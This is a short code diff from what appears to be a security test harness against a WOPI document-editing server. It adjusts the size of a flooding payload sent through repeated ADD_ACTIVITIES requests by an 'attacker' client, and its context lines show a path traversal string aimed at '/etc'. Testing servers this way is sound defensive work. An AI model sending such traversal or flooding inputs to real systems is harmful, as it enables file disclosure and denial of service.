@@ -21,7 +21,7 @@ FSCK_CALLS_MAX = 25
 OWN_EDITOR_S = 4.0
 """It waits no longer where its own editor holds up its own request."""
 
-ACTIVITIES_BYTES = 400_000
+ACTIVITIES_BYTES = 200_000
 
 CURSORS = (
     '{"phase":"files","folders":["../../../../../../etc"]}',
@@ -336,7 +336,7 @@ class Plotter:
         query = {"access_token": str(opened["access_token"])}
         headers = {"X-WOPI-Override": "ADD_ACTIVITIES"}
         data = {"ContentId": "intruder" * (ACTIVITIES_BYTES // 8), "ContentAction": "add"}
-        one = {"Type": "Comment", "Timestamp": "2026-01-01T00:00:00Z", "Data": data}
+        one = {"Type": "WopiComment", "Timestamp": "2026-01-01T00:00:00Z", "Data": data}
         for number in range(40):
             body = {"Activities": [one | {"Id": str(number)}]}
             answer = await self.api.attacker.ask(
